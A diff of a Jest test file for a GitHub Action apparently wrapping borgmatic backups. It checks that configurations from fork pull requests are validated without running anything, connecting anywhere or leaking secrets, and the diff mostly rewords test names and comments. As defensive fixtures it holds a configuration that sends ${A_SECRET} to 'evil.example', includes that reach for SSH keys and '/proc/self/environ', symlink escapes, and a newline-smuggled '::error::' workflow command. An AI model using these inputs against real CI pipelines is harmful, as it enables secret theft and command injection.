@@ -16,7 +16,7 @@ import { afterEach, beforeEach, describe, expect, test } from '@jest/globals';
 import { forkWarning } from '../../src/fork.js';
 import { type Ended, inputs, startEntry } from './entry.js';
 
-/** Stands in files, variables and folders that no pull request may learn anything of. */
+/** A string in files and variables that no pull request may read. */
 const canary = 'CANARY-7f3a91c2';
 
 let folder = '';
@@ -28,7 +28,7 @@ function put(name: string, text: string, mode = 0o644): string {
   return path(name);
 }
 
-/** A machine with a checkout of somebody's pull request, and programs that leave a trace where they are run. */
+/** Sets up a checkout of a pull request, and programs that leave a trace if they run. */
 beforeEach(() => {
   folder = realpathSync(mkdtempSync(join(tmpdir(), 'borgflow-request-')));
   put('home/.ssh/id_ed25519', canary);
@@ -76,7 +76,7 @@ const fork = {
   pull_request: { title: '::error::evil', head: { repo: { full_name: 'mallory/backup', fork: true } } },
 };
 
-/** What a step of this pull request did. */
+/** Runs a step for this pull request. */
 async function step(given: Readonly<Record<string, string>>, before: readonly string[] = []): Promise<Ended> {
   const start = { folder: path('workspace'), environment: environment(fork, given), before };
   return await startEntry('action', start).ended;
@@ -84,18 +84,18 @@ async function step(given: Readonly<Record<string, string>>, before: readonly st
 
 const traced = () => (existsSync(path('trace')) ? readFileSync(path('trace'), 'utf8') : '');
 
-/** Nothing was run, nothing was written but what the runner asked for, and nothing was learned. */
+/** Asserts that nothing ran, that only the runner's files were written, and that no secret was revealed. */
 function expectHarmless({ log }: Ended): void {
   expect(traced()).toBe('');
   expect(log).not.toContain(canary);
   expect(log).not.toContain('Internal error');
   expect(readFileSync(commandFile('env'), 'utf8')).toBe('');
-  const told = ['output', 'state', 'summary'].map((name) => readFileSync(commandFile(name), 'utf8')).join('');
-  expect(told).not.toContain(canary);
+  const written = ['output', 'state', 'summary'].map((name) => readFileSync(commandFile(name), 'utf8')).join('');
+  expect(written).not.toContain(canary);
   expect(readdirSync(path('temp')).toSorted()).toEqual(['_runner_file_commands', 'event.json']);
 }
 
-/** Everything in a configuration that a run would start, read or write. */
+/** A configuration with everything that a run would start, read, or write. */
 const malicious = (more = '') => `repositories:
   - path: "ssh://evil.example/./\${A_SECRET}"
   - path: "\${A_SECRET}"
@@ -118,16 +118,16 @@ borg_base_directory: ${path('outside/borg')}
 healthchecks: {ping_url: "http://127.0.0.1:9/\${A_SECRET}"}
 ${more}`;
 
-describe('a pull request that is validated', () => {
+describe('validating a pull request', () => {
   const validate = { config: 'server.yaml', actions: 'config validate' };
 
-  test('runs nothing, writes nothing and learns nothing, whatever its configuration names', async () => {
+  test('runs nothing, writes nothing, and reveals nothing, whatever the configuration contains', async () => {
     put('workspace/server.yaml', malicious());
     expectHarmless(await step(validate));
     expect(readdirSync(path('outside'))).toEqual(['secret.yaml']);
   });
 
-  test('learns nothing from the faults that it makes', async () => {
+  test('reveals nothing in error messages', async () => {
     const faults = [
       'umask: "${A_SECRET}"',
       'keep_daily: "${A_SECRET}"',
@@ -141,11 +141,11 @@ describe('a pull request that is validated', () => {
   });
 
   test.each([
-    ['a file beside the workspace', '../outside/secret.yaml'],
-    ['a key', '~/.ssh/id_ed25519'],
-    ['its own environment', '/proc/self/environ'],
-    ['the event', '../temp/event.json'],
-  ])('includes nothing from outside: %s', async (_, name) => {
+    ['a file next to the workspace', '../outside/secret.yaml'],
+    ['an SSH key', '~/.ssh/id_ed25519'],
+    ['the environment of the process', '/proc/self/environ'],
+    ['the event file', '../temp/event.json'],
+  ])('includes nothing from outside the workspace: %s', async (_, name) => {
     put('workspace/server.yaml', `repositories: [/r]\n<<: !include ${name}\n`);
     const done = await step(validate);
     expect(done.log).toContain('is outside the workspace');
@@ -156,10 +156,10 @@ describe('a pull request that is validated', () => {
     ['the file itself', 'server.yaml', '../outside/secret.yaml', 'server.yaml'],
     ['a file in a folder', 'files/one.yaml', '../../outside/secret.yaml', 'files'],
     ['a folder', 'files', '../outside', 'files'],
-    ['a folder on the way', 'linked', '../outside', 'linked/secret.yaml'],
-    ['the place that is looked in by default', '.github/borgflow.yaml', '../../outside/secret.yaml', ''],
-    ['the folder of that place', '.github', '../outside', ''],
-  ])('is not led outside by a link: %s', async (_, link, target, config) => {
+    ['a folder on the path', 'linked', '../outside', 'linked/secret.yaml'],
+    ['the default configuration', '.github/borgflow.yaml', '../../outside/secret.yaml', ''],
+    ['the folder of the default configuration', '.github', '../outside', ''],
+  ])('follows no link out of the workspace: %s', async (_, link, target, config) => {
     mkdirSync(dirname(path(`workspace/${link}`)), { recursive: true });
     symlinkSync(target, path(`workspace/${link}`));
     symlinkSync('secret.yaml', path('outside/borgflow.yaml'));
@@ -168,14 +168,14 @@ describe('a pull request that is validated', () => {
     expectHarmless(done);
   });
 
-  test('that has no configuration is not checked by that of the machine', async () => {
+  test('never uses the machine’s own configuration if the workspace has none', async () => {
     const done = await step({ ...validate, config: '' });
     expect(done.status).toBe(1);
     expect(done.log).toContain('Looked for .github/borgflow.yaml and .github/borgmatic.yaml.');
     expectHarmless(done);
   });
 
-  test('in a workspace that is a link itself is checked as in any other', async () => {
+  test('works in a workspace that is a link itself', async () => {
     symlinkSync('workspace', path('linked'));
     put('workspace/server.yaml', 'repositories: [/r]\n<<: !include part.yaml\n');
     put('workspace/part.yaml', 'keep_daily: 7\n');
@@ -185,9 +185,9 @@ describe('a pull request that is validated', () => {
     expectHarmless(done);
   });
 
-  test('starts no process, opens no file of the workspace or the machine but its configuration, and no connection', async () => {
+  test('starts no process, opens no connection, and opens no file except its configuration', async () => {
     const strace = ['/usr/bin/strace', '/bin/strace'].find(existsSync);
-    if (strace === undefined) return; // where there is no tracer, the programs above leave their trace
+    if (strace === undefined) return; // without a tracer, the programs above leave their trace
     put('workspace/server.yaml', malicious());
     const calls = ['-f', '-qq', '-e', 'trace=execve,connect,openat,open,mkdir,unlink,rename', '-o', path('calls')];
     await step(validate, [strace, ...calls]);
@@ -203,20 +203,20 @@ describe('a pull request that is validated', () => {
   });
 });
 
-describe('a pull request from a fork that is run', () => {
+describe('running a pull request from a fork', () => {
   const advice =
-    'Validate such files instead, with the input actions: config validate, which runs nothing that they name.';
+    'To check such files safely, use the input actions: config validate, which does not run anything that they name.';
   const sound = () => ({ configuration: `repositories: [${path('repository')}]\n`, permissions: 'off' });
 
-  test('as a dry run is a warning, which an annotation shows', async () => {
+  test('shows a warning annotation in a dry run', async () => {
     const { log } = await step({ ...sound(), 'dry-run': 'true' });
     expect(log).toMatch(
-      /^::warning[^:]*::This pull request comes from a fork \(mallory\/backup\)\. A dry run is not safe/m,
+      /^::warning[^:]*::This pull request comes from a fork \(mallory\/backup\)\. A dry run of its configuration is not safe/m,
     );
     expect(log).toContain(advice);
   });
 
-  test('in earnest is one, too', async () => {
+  test('shows a warning annotation in a real run', async () => {
     const { log } = await step(sound());
     expect(log).toMatch(
       /^::warning[^:]*::This pull request comes from a fork \(mallory\/backup\)\. This step runs the hooks/m,
@@ -224,15 +224,15 @@ describe('a pull request from a fork that is run', () => {
     expect(log).toContain(advice);
   });
 
-  test('as a mere validation is none', async () => {
+  test('shows no warning if it is only validated', async () => {
     put('workspace/server.yaml', 'repositories: [/r]\n');
     const { log } = await step({ config: 'server.yaml', actions: 'config validate' });
     expect(log).not.toContain('fork');
   });
 });
 
-describe('whether an event comes from a fork', () => {
-  const warned = (event: string, payload: unknown) =>
+describe('an event from a fork', () => {
+  const warningFor = (event: string, payload: unknown) =>
     forkWarning(
       {
         GITHUB_EVENT_NAME: event,
@@ -241,42 +241,44 @@ describe('whether an event comes from a fork', () => {
       true,
     );
   const head = (repo: unknown) => ({ repository: { full_name: 'owner/backup' }, pull_request: { head: { repo } } });
-  const started = (head_repository: unknown, event = 'pull_request') => ({
+  const workflowRun = (head_repository: unknown, event = 'pull_request') => ({
     repository: { full_name: 'owner/backup' },
     workflow_run: { event, head_repository },
   });
   const events = ['pull_request', 'pull_request_target', 'pull_request_review', 'pull_request_review_comment'];
 
-  test.each(events)('is seen by the name of its repository: %s', (event) => {
-    expect(warned(event, head({ full_name: 'mallory/backup' }))).toContain('from a fork (mallory/backup).');
-    expect(warned(event, head({ full_name: 'owner/backup', fork: true }))).toBeUndefined();
+  test.each(events)('is recognized by the name of its repository: %s', (event) => {
+    expect(warningFor(event, head({ full_name: 'mallory/backup' }))).toContain('from a fork (mallory/backup).');
+    expect(warningFor(event, head({ full_name: 'owner/backup', fork: true }))).toBeUndefined();
   });
 
-  test.each(events)('counts as one where that is gone, or can’t be read: %s', (event) => {
-    expect(warned(event, head(null))).toContain('comes from a fork.');
-    expect(warned(event, {})).toContain('comes from a fork.');
-    expect(warned(event, 'no JSON')).toContain('may come from a fork');
+  test.each(events)('is assumed if the repository is gone or can’t be read: %s', (event) => {
+    expect(warningFor(event, head(null))).toContain('comes from a fork.');
+    expect(warningFor(event, {})).toContain('comes from a fork.');
+    expect(warningFor(event, 'no JSON')).toContain('may come from a fork');
     expect(forkWarning({ GITHUB_EVENT_NAME: event }, true)).toContain('may come from a fork');
     expect(forkWarning({ GITHUB_EVENT_NAME: event, GITHUB_EVENT_PATH: '/dev/zero' }, true)).toContain(
       'may come from a fork',
     );
   });
 
-  test('is no place for words of somebody else', () => {
-    const warning = warned('pull_request', head({ full_name: 'a/b\n::error::evil' }));
+  test('never shows an invalid repository name', () => {
+    const warning = warningFor('pull_request', head({ full_name: 'a/b\n::error::evil' }));
     expect(warning).toContain('comes from a fork.');
     expect(warning).not.toContain('evil');
   });
 
-  test('is asked of a run that another one started, and of a comment on a pull request', () => {
-    expect(warned('workflow_run', started({ full_name: 'mallory/backup' }))).toContain('from a fork (mallory/backup).');
-    expect(warned('workflow_run', started(null))).toContain('from a fork.');
-    expect(warned('workflow_run', started({ full_name: 'owner/backup' }))).toBeUndefined();
-    expect(warned('issue_comment', { issue: { pull_request: {} } })).toContain('may come from a fork');
-    expect(warned('issue_comment', { issue: {} })).toBeUndefined();
+  test('is recognized in workflow_run, and in comments on a pull request', () => {
+    expect(warningFor('workflow_run', workflowRun({ full_name: 'mallory/backup' }))).toContain(
+      'from a fork (mallory/backup).',
+    );
+    expect(warningFor('workflow_run', workflowRun(null))).toContain('from a fork.');
+    expect(warningFor('workflow_run', workflowRun({ full_name: 'owner/backup' }))).toBeUndefined();
+    expect(warningFor('issue_comment', { issue: { pull_request: {} } })).toContain('may come from a fork');
+    expect(warningFor('issue_comment', { issue: {} })).toBeUndefined();
   });
 
-  test.each(['push', 'schedule', 'workflow_dispatch', ''])('is not asked of others: %j', (event) => {
-    expect(warned(event, head({ full_name: 'mallory/backup' }))).toBeUndefined();
+  test.each(['push', 'schedule', 'workflow_dispatch', ''])('is not checked for other events: %j', (event) => {
+    expect(warningFor(event, head({ full_name: 'mallory/backup' }))).toBeUndefined();
   });
 });
